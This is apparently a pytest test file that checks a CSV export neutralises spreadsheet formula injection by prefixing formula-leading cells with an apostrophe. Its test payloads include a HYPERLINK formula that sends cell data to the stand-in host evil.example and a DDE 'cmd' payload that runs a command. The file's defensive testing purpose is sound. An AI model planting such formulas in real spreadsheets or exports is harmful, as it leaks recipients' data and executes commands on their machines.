"""conflicts.csv never carries a spreadsheet formula from owner data (OWASP CSV injection):
formula-leading text gets a leading ', numbers (negative distances too) stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import numpy as np
import pandas as pd

from asset_register.notices import write_notice_pack
from asset_register.notices.exports import spreadsheet_safe

from .analytic import conflict_rows, make_result

NOW = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)", "\t=1+1", "\r=1+1"]


def test_spreadsheet_safe_prefixes_formulas_and_keeps_numbers():
    frame = pd.DataFrame({
        "text": [*EVIL, "-1.5", "+3", "1e-3", "mains-42", None],
        "distance_m": [-1.5, 0.0, 2.25, -0.001, 1.0, 3.0, -7.0, 4.0, 5.0, 6.0, np.nan],
    })
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:6] == ["'" + v for v in EVIL]
    assert safe["text"].tolist()[6:10] == ["-1.5", "+3", "1e-3", "mains-42"]
    assert safe["text"].isna().tolist()[10]
    assert safe["distance_m"].dtype == float
    assert np.array_equal(safe["distance_m"].to_numpy(), frame["distance_m"].to_numpy(), equal_nan=True)
    assert frame["text"].tolist()[0] == EVIL[0]  # the input is not changed


def test_owner_formulas_in_the_notice_pack_csv_are_neutralised(tmp_path):
    from .conftest import build_register

    store = build_register(tmp_path / "register.gpkg")
    conflicts = conflict_rows()
    conflicts["asset_id"] = conflicts["asset_id"].astype(object)
    conflicts.loc[conflicts.index[0], "asset_id"] = EVIL[0]
    conflicts["material"] = conflicts["material"].astype(object)
    conflicts.loc[conflicts.index[1], "material"] = "@SUM(1)"
    conflicts.loc[conflicts.index[2], "material"] = "-1.5"
    conflicts["distance_m"] = conflicts["distance_m"].astype(float)
    conflicts.loc[conflicts.index[3], "distance_m"] = -1.5
    try:
        pack = write_notice_pack(store, make_result(conflicts), tmp_path / "out", promoter="Acme",
                                 promoter_phone="01234 567890", now=NOW)
    finally:
        store.close()
    with open(pack.folder / "conflicts.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["asset_id"] == "'" + EVIL[0]
    assert rows[1]["material"] == "'@SUM(1)"
    assert rows[2]["material"] == "-1.5"
    assert rows[3]["distance_m"] == "-1.5"
    for row in rows:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
    frame = pd.read_csv(pack.folder / "conflicts.csv", encoding="utf-8-sig")
    assert frame["distance_m"].dtype == float and frame["distance_m"].iloc[3] == -1.5
